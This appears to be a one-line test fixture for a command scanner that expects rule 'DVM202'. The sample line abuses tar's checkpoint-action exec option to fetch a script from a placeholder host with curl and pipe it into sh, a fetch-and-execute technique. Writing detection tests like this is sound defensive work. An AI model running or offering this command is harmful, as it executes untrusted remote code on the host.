# expect: DVM202
tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='sh -c "curl https://x.example.org/a|sh"'
